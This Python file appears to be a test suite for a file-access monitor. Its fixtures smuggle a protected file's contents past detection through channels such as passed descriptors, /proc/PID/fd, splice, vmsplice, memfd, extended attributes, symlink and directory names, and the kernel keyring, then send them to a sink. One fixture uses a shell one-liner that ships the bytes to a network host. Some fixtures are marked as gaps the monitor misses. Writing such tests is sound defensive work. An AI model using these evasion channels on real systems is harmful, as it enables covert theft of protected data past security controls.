"""The content without an open of the file by who sends it."""

import array
import ctypes
import mmap
import os
import socket
import time

from evade import LIBC, between, call, child, connect, fixture, main, path, read, send, tmp, wait


def pair():
    return socket.socketpair()


def give_descriptor(at, fd):
    at[0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])


def take_descriptor(at):
    _, told, _, _ = at[1].recvmsg(1, socket.CMSG_SPACE(4))
    return array.array("i", told[0][2])[0]


def passed(use):
    """The parent opens the file and does not read it; the child is passed the descriptor."""
    at = pair()
    pid = child(lambda: use(take_descriptor(at)))
    give_descriptor(at, os.open(path(), os.O_RDONLY))
    wait(pid)


@fixture("B36", "a descriptor that was inherited by a program")
def inherited():
    fd = os.open(path(), os.O_RDONLY)
    os.set_inheritable(fd, True)
    os.execv("/bin/sh", ["sh", "-c", f"exec python3 -S -c 'import os,socket; s=socket.create_connection(os.environ[\"SINK\"].rsplit(\":\",1)); s.sendall(os.read({fd},4096)); s.shutdown(1)'"])


@fixture("B36", "a descriptor that was passed (SCM_RIGHTS), read")
def passed_read():
    passed(lambda fd: send(os.read(fd, 4096)))


@fixture("B36", "a descriptor that was passed, read at an offset")
def passed_pread():
    passed(lambda fd: send(os.pread(fd, 4096, 0)))


@fixture("B36", "a descriptor that was passed, mapped")
def passed_map():
    passed(lambda fd: send(bytes(mmap.mmap(fd, 0, mmap.MAP_PRIVATE, mmap.PROT_READ))))


@fixture("B36", "a descriptor that was passed, mapped shared")
def passed_map_shared():
    passed(lambda fd: send(bytes(mmap.mmap(fd, 0, mmap.MAP_SHARED, mmap.PROT_READ))))


@fixture("B36", "a descriptor that was passed, by sendfile")
def passed_sendfile():
    def use(fd):
        with connect() as stream:
            os.sendfile(stream.fileno(), fd, 0, 4096)

    passed(use)


@fixture("B36", "a descriptor that was passed, by splice through a pipe")
def passed_splice():
    def use(fd):
        with connect() as stream:
            out, into = os.pipe()
            length = os.splice(fd, into, 4096)
            os.splice(out, stream.fileno(), length)

    passed(use)


@fixture("B36", "a descriptor that was passed, copied by copy_file_range and sent by a third")
def passed_copy():
    def use(fd):
        with open(tmp("copy"), "wb") as copy:
            os.copy_file_range(fd, copy.fileno(), 4096)

    passed(use)
    send(read(tmp("copy")))


def held(make, use):
    """A child has what `make` gives, a descriptor, until `use` has read it: what that returns is sent."""
    ready, done = os.pipe(), os.pipe()

    def hold():
        os.write(ready[1], bytes([make()]))
        os.read(done[0], 1)

    pid = child(hold)
    [number] = os.read(ready[0], 1)
    data = use(pid, number)
    os.write(done[1], b"x")
    send(data)
    wait(pid)


def opened():
    return os.open(path(), os.O_RDONLY)


def by_proc(pid, number):
    return read(f"/proc/{pid}/fd/{number}")


@fixture("B36", "a descriptor of another process (pidfd_getfd)")
def pidfd_getfd():
    held(opened, lambda pid, number: os.read(call(438, os.pidfd_open(pid), number, 0), 4096))


@fixture("B36", "a descriptor of another process, opened again by /proc/PID/fd")
def proc_fd():
    held(opened, by_proc)


@fixture("B36", "sendfile")
def sendfile():
    with connect() as stream:
        os.sendfile(stream.fileno(), os.open(path(), os.O_RDONLY), 0, 4096)


@fixture("B36", "splice through a pipe")
def splice():
    with connect() as stream:
        out, into = os.pipe()
        length = os.splice(os.open(path(), os.O_RDONLY), into, 4096)
        os.splice(out, stream.fileno(), length)


@fixture("B36", "tee from one pipe into another's, and splice")
def tee():
    with connect() as stream:
        out, into = os.pipe()
        other, further = os.pipe()
        length = os.splice(os.open(path(), os.O_RDONLY), into, 4096)
        call(276, out, further, length, 0)
        os.splice(other, stream.fileno(), length)


@fixture("B36", "vmsplice into a pipe of another process")
def vmsplice():
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_char_p), ("length", ctypes.c_size_t)]

    def give(at, data):
        LIBC.vmsplice(at[1], ctypes.byref(Vector(data, len(data))), 1, 0)

    between(os.pipe, give, lambda at: os.read(at[0], 4096))


@fixture("B36", "a copy by reflink or, where the file system has none, by copy_file_range")
def copied():
    def copy():
        with open(tmp("copy"), "wb") as to, open(path(), "rb") as source:
            if LIBC.ioctl(to.fileno(), 0x40049409, source.fileno()) < 0:
                os.copy_file_range(source.fileno(), to.fileno(), 4096)

    wait(child(copy))
    send(read(tmp("copy")))


@fixture("B36", "a file in memory (memfd) of another process, by /proc/PID/fd")
def memfd():
    def make():
        fd = os.memfd_create("x")
        os.write(fd, read())
        return fd

    held(make, by_proc)


@fixture("B36", "the target of a symbolic link", enforce="gap", audit="gap", why="targets of links")
def link_target():
    wait(child(lambda: os.symlink(read().hex(), tmp("link"))))
    send(bytes.fromhex(os.readlink(tmp("link"))))


@fixture("B36", "names of directories", enforce="gap", audit="gap", why="names of files")
def directory_names():
    wait(child(lambda: [os.mkdir(tmp(f"n{i:03}-{part:02x}")) for i, part in enumerate(read())]))
    names = sorted(name for name in os.listdir(tmp("")) if name.startswith("n") and "-" in name)
    send(bytes(int(name.split("-")[1], 16) for name in names))


@fixture("B36", "an extended attribute")
def attribute():
    open(tmp("carrier"), "w").close()
    wait(child(lambda: os.setxattr(tmp("carrier"), "user.x", read())))
    send(os.getxattr(tmp("carrier"), "user.x"))


@fixture("B36", "a keyring of the kernel")
def keyring():
    KEYCTL_READ, KEYCTL_JOIN, SESSION = 11, 1, -3
    call(250, KEYCTL_JOIN, 0)

    def give():
        data = read()
        call(248, ctypes.c_char_p(b"user"), ctypes.c_char_p(b"x"), ctypes.c_char_p(data), len(data), SESSION)

    wait(child(give))
    key = call(249, ctypes.c_char_p(b"user"), ctypes.c_char_p(b"x"), None, 0)
    into = ctypes.create_string_buffer(4096)
    length = call(250, KEYCTL_READ, key, into, 4096)
    send(into.raw[:length])


main()
